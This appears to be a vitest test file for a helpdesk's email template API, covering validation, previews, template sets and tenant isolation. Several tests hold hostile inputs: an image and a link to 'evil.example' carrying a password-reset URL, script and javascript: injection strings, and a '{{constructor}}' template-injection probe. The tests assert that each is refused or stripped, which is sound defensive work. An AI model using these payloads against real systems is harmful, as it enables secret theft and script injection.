import { emailConfig, general, smtp, templateSets, templates } from "@parley/contract";
import { expect, test } from "vitest";
import { testDesk } from "#platform/testing/desk.ts";

const desk = testDesk();

async function defaultSet(name: "acme" | "globex" = "acme") {
  const { body } = await (await desk.as("admin", name)).call(templateSets.list, { query: {} });
  const set = body.results.find((one) => one.is_default);
  if (!set) throw new Error("no default set");
  return set;
}

async function named(name: string) {
  const found = (await defaultSet()).templates.find((one) => one.name === name);
  if (!found) throw new Error(`no template ${name}`);
  return found;
}

async function save(name: string, change: Partial<templates.Draft>) {
  const { id, subject, body, description, is_active } = await named(name);
  return (await desk.as("admin")).call(templates.update, {
    params: { id },
    body: { name, subject, body, description, is_active, ...change },
  });
}

test("a new business has one complete set with the built-in texts", async () => {
  const set = await defaultSet();

  expect(set.name).toBe("Default");
  expect(set.templates).toHaveLength(40);
  expect(set.templates.every((one) => one.is_active && one.is_default)).toBe(true);
  expect(set.templates[0]).toMatchObject({
    name: "New ticket received",
    type: "ticket",
    subject: "[#{{ticket.number}}] We received your request",
  });
  expect(set.templates.filter((one) => one.is_optional).map((one) => one.name)).toEqual([
    "Message received",
    "Ticket closed",
    "Ticket reopened",
    "Status changed",
    "Too many open tickets",
    "New sign-in",
  ]);
});

test("every built-in template contains only allowed variables", async () => {
  for (const { id, name, subject, body } of (await defaultSet()).templates) {
    const { status, problem } = await (await desk.as("admin")).call(templates.preview, {
      params: { id },
      body: { subject, body },
    });
    expect([name, status, problem?.message]).toEqual([name, 200, undefined]);
  }
});

test("a saved template is stored and published with old and new values", async () => {
  const { body, status } = await save("Password reset", {
    subject: "A new password for {{business.name}}",
    description: "",
    is_active: true,
  });

  expect(status).toBe(200);
  expect(body.message).toBe("Template updated successfully");
  expect(body.template).toMatchObject({
    subject: "A new password for {{business.name}}",
    description: "",
    is_default: false,
    version: 2,
  });
  const [told] = await desk.rows<{ changes: unknown }>(
    "select changes from events where business_id = $1 and name = 'mail.template_changed'",
    [desk.business().id],
  );
  expect(told?.changes).toContainEqual({
    field: "subject",
    from: "Reset your password",
    to: "A new password for {{business.name}}",
  });
});

test("saving the built-in text again writes nothing", async () => {
  const { body } = await save("Password reset", {});
  expect(body.template).toMatchObject({ is_default: true, version: 1 });
  expect(await desk.announced()).toEqual([]);
});

test("a template is reset to the built-in text", async () => {
  const { body: saved } = await save("Ticket closed", { subject: "Done", is_active: false });
  const { body } = await (await desk.as("admin")).call(templates.reset, {
    params: { id: saved.template.id },
  });
  expect(body.message).toBe("Template restored successfully");
  expect(body.template).toMatchObject({
    subject: "[#{{ticket.number}}] Closed",
    is_active: true,
    is_default: true,
  });
});

test.each([
  ["Staff reply", { subject: "{{ticket.nmber}}" }, "Unknown variable: ticket.nmber", "subject"],
  ["Staff reply", { body: "<p>{{task.title}}</p>" }, "Unknown variable: task.title", "body"],
  ["Staff reply", { body: "{{constructor}}" }, "Unknown variable: constructor", "body"],
])("in %s %j is refused: %s", async (name, change, message, field) => {
  const { status, problem } = await save(name, change);
  expect(status).toBe(400);
  expect(problem).toMatchObject({
    code: "mail.unknown_variable",
    message,
    fields: { [field]: message },
  });
});

test.each([
  ["New sign-in", "user.reset_url"],
  ["Customer invitation", "user.otp_code"],
  ["Password reset", "user.invite_url"],
  ["Staff reply", "ticket.verify_url"],
])("%s may not contain %s, which belongs to another template", async (name, variable) => {
  const { status, problem } = await save(name, { body: `<p>{{${variable}}}</p>` });
  expect(status).toBe(400);
  expect(problem).toMatchObject({
    code: "mail.variable_reserved",
    message: `${variable} can only be used in its own template.`,
  });
});

test.each([
  ["a picture", '<img src="https://evil.example/p.png">{{user.reset_url}}'],
  ["a link that contains the secret", '<a href="https://evil.example/?{{user.reset_url}}">x</a>'],
])("a secret cannot be leaked by %s", async (_, body) => {
  const { problem } = await save("Password reset", { body });
  expect(problem.fields?.body).toMatch(/carries a secret/);
});

test("scripts, forms, event handlers and other URL schemes are removed", async () => {
  const { body } = await save("Staff reply", {
    body: `<p onclick="x()">Hi <script>alert(1)</script><a href="javascript:x()">a</a></p><form><input></form><style>p{}</style>`,
  });
  expect(body.template.body).toBe("<p>Hi <a>a</a></p>");
});

test("a preview is filled with samples and the real business, escaped and expanded once", async () => {
  await desk.rows("update businesses set name = '<b>{{user.otp_code}}</b>' where id = $1", [
    desk.business().id,
  ]);
  const { id } = await named("One-time code");
  const { body } = await (await desk.as("admin")).call(templates.preview, {
    params: { id },
    body: { subject: "{{user.otp_code}}", body: "<p>{{business.name}}, {{user.first_name}}</p>" },
  });

  expect(body.subject).toBe("123456");
  expect(body.html).toContain("<p>&lt;b&gt;{{user.otp_code}}&lt;/b&gt;, admin</p>");
  expect(body.text).toBe("<b>{{user.otp_code}}</b>, admin");
});

test("a mail contains the address and phone number of the business", async () => {
  const change = { email: "help@acme.test", phone: "+44 20 7946 0123" };
  await (await desk.as("admin")).call(general.update, { body: change });
  const { id } = await named("One-time code");
  const words = { body: "<p>{{business.email}} {{business.phone}}</p>" };
  const { body } = await (await desk.as("admin")).call(templates.preview, {
    params: { id },
    body: words,
  });
  expect(body.text).toBe("help@acme.test +44 20 7946 0123");
});

test("a sample is not mailed without a mail server of the business", async () => {
  const { id } = await named("Ticket resolved");
  const { status, problem } = await (await desk.as("admin")).call(templates.sendToMe, {
    params: { id },
    body: {},
  });
  expect([status, problem.code]).toEqual([404, "mail.not_configured"]);
});

test("a sample is mailed to the caller only", async () => {
  await (await desk.as("admin")).call(smtp.save, {
    body: {
      host: "smtp.example.com",
      port: 587,
      username: "desk",
      password: "orchard-seven",
      use_tls: true,
      use_ssl: false,
      default_from_email: "hello@acme.test",
      sender_name: "Acme Desk",
    },
  });
  const { id } = await named("Ticket resolved");
  const { body } = await (await desk.as("admin")).call(templates.sendToMe, {
    params: { id },
    body: {},
  });
  const { email } = desk.business().people.admin;
  expect(body.message).toBe(`Test email sent to ${email}`);
  expect(await desk.mails()).toMatchObject([
    {
      recipient: email,
      subject: "[#TK20418] Resolved: The printer on floor 2 is out of ink",
    },
  ]);
});

test("a set is added as a copy of the default one, including its changes", async () => {
  await save("Staff reply", { subject: "Our words" });
  const { status, body } = await (await desk.as("admin")).call(templateSets.add, {
    body: { name: "Spring" },
  });

  expect(status).toBe(201);
  expect(body.message).toBe("Template set created successfully");
  expect(body.set).toMatchObject({ name: "Spring", is_default: false });
  expect(body.set.templates).toHaveLength(40);
  expect(body.set.templates.find((one) => one.name === "Staff reply")?.subject).toBe("Our words");
  const ids = new Set((await defaultSet()).templates.map(({ id }) => id));
  expect(body.set.templates.some(({ id }) => ids.has(id))).toBe(false);
});

test("a set name is unique, regardless of case", async () => {
  const admin = await desk.as("admin");
  const { status, problem } = await admin.call(templateSets.add, { body: { name: "DEFAULT" } });
  expect([status, problem.code, problem.message]).toEqual([
    409,
    "mail.set_exists",
    "A template set with this name exists",
  ]);
});

test("a set is renamed and deleted, but not while it is in use", async () => {
  const admin = await desk.as("admin");
  const { body: added } = await admin.call(templateSets.add, { body: { name: "Spring" } });
  const params = { id: added.set.id };
  const renamed = await admin.call(templateSets.rename, { params, body: { name: "Summer" } });
  expect(renamed.body).toMatchObject({
    message: "Template set updated successfully",
    set: { name: "Summer" },
  });

  await admin.call(emailConfig.update, { body: { default_template: added.set.id } });
  const refusal = await admin.call(templateSets.remove, { params });
  expect([refusal.status, refusal.problem.message]).toEqual([409, "This template set is in use."]);

  const [old] = (await admin.call(templateSets.list, { query: {} })).body.results;
  const removed = await admin.call(templateSets.remove, { params: { id: old?.id ?? "" } });
  expect(removed.body.message).toBe("Template set deleted successfully");
  expect((await admin.call(templateSets.list, { query: {} })).body.count).toBe(1);
});

test("templates are filtered by set and type", async () => {
  const { body } = await (await desk.as("admin")).call(templates.list, { query: { type: "sla" } });
  expect(body.results.map(({ name }) => name)).toEqual([
    "SLA reminder",
    "SLA breached",
    "SLA escalation",
  ]);
});

test("an agent is denied, and templates of another business are not found", async () => {
  const set = await defaultSet("globex");
  const [foreign] = set.templates;
  const params = { id: foreign?.id ?? "" };
  const body = { name: "x", subject: "x", body: "x" };
  expect((await (await desk.as("agent")).call(templateSets.list, { query: {} })).status).toBe(403);
  const admin = await desk.as("admin");
  expect((await admin.call(templates.update, { params, body })).status).toBe(404);
  expect((await admin.call(templates.preview, { params, body: {} })).status).toBe(404);
  expect((await admin.call(templateSets.remove, { params: { id: set.id } })).status).toBe(404);
  expect((await defaultSet("globex")).templates).toEqual(set.templates);
});
